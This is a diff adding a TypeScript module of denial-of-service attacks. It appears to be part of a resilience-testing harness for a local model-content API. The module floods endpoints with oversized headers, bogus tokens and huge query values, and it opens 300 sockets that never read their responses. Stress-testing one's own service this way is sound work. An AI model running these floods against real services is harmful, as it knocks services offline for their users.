@@ -1,0 +1,56 @@
+/** Attacks by reading: answers that are long, texts that are slow to read, and readers who take nothing. */
+import { connect } from 'node:net';
+import type { Attack } from '../attack.ts';
+import { crowd, ended, Statuses } from '../statuses.ts';
+import type { Victim } from '../target.ts';
+
+const digits = '0'.repeat(14_000);
+const blanks = ' '.repeat(14_000);
+
+type Asked = (victim: Victim) => Promise<Response>;
+
+const floods: Readonly<Record<string, Asked>> = {
+  'long pages of objects': ({ url, modelId }) => fetch(`${url}/api/models/${modelId}/objects?size=1000`),
+  'long numbers that are none': ({ url, modelId }) =>
+    fetch(`${url}/api/models/${modelId}/objects?features.${encodeURIComponent('http://example.org/p')}=${digits}!`),
+  'a header of languages that is mostly blank': ({ url }) =>
+    fetch(`${url}/nowhere`, { headers: { accept: 'text/html', 'accept-language': `a${blanks}b` } }),
+  'a header of media types that names thousands': ({ url, modelId }) =>
+    fetch(`${url}/api/models/${modelId}/content`, { headers: { accept: Array(3500).fill('*/*').join(',') } }),
+  'the description of the interface': ({ url }) => fetch(`${url}/v3/api-docs`),
+  'tokens that are none': ({ url }) =>
+    fetch(`${url}/api/projects`, { headers: { authorization: `Bearer ${'a.'.repeat(6000)}` } }),
+};
+
+export const readAttacks: readonly Attack[] = [
+  ...Object.entries(floods).map(
+    ([name, ask]): Attack => ({
+      name,
+      run: async (victim, end) => {
+        const statuses = new Statuses();
+        await crowd(20, end, () => statuses.count(ask(victim)));
+        return String(statuses);
+      },
+    }),
+  ),
+  ...['identity', 'br'].map(
+    (encoding): Attack => ({
+      name: `300 readers who take nothing of what they ask for (${encoding})`,
+      run: (victim, end) => unread(victim, end, encoding),
+    }),
+  ),
+];
+
+async function unread({ port, modelId }: Victim, end: AbortSignal, encoding: string): Promise<string> {
+  const statuses = new Statuses();
+  const sockets = Array.from({ length: 300 }, () => {
+    const socket = connect(port, '127.0.0.1');
+    socket.on('error', () => {});
+    socket.once('readable', () => statuses.add(socket.read(12)?.toString('latin1').slice(9) ?? 'cut'));
+    socket.write(`GET /api/models/${modelId}/content HTTP/1.1\r\nHost: x\r\nAccept-Encoding: ${encoding}\r\n\r\n`);
+    return socket;
+  });
+  await ended(end);
+  for (const socket of sockets) socket.destroy();
+  return String(statuses);
+}
